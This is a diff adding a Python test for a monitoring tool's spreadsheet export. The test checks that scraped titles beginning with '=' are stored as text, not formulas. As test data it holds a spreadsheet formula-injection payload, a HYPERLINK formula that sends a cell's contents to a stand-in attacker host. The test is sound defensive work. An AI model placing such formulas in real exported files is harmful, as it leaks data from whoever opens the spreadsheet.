@@ -35,3 +35,19 @@ def test_export_xlsx_is_a_workbook_a_spreadsheet_opens_with_arabic_and_accents(t
     rows = list(load_workbook(target, read_only=True).active.iter_rows(values_only=True))
     assert list(rows[0]) == list(EXPORT_FIELDS)
     assert sorted(row[rows[0].index("title")] for row in rows[1:]) == sorted(titles)
+
+
+def test_a_title_that_starts_with_an_equals_sign_stays_text_in_the_workbook(tmp_path: Path) -> None:
+    """Titles and texts come from any site: openpyxl stores a text starting with "=" as a formula, which the
+    researcher's Excel runs on opening (`=HYPERLINK(…&A1, …)` sends another cell to the page's address). Each is
+    written as the text published."""
+    from rasd.monitor.records import write_workbook
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Lire la suite")'
+    target = tmp_path / "export.xlsx"
+    assert (
+        write_workbook([{"title": title, "score": 0.5, "text": "=1+1 et la suite"}], target, ["title", "score", "text"])
+        == 1
+    )
+    row = next(load_workbook(target).active.iter_rows(min_row=2))
+    assert [(cell.value, cell.data_type) for cell in row] == [(title, "s"), (0.5, "n"), ("=1+1 et la suite", "s")]
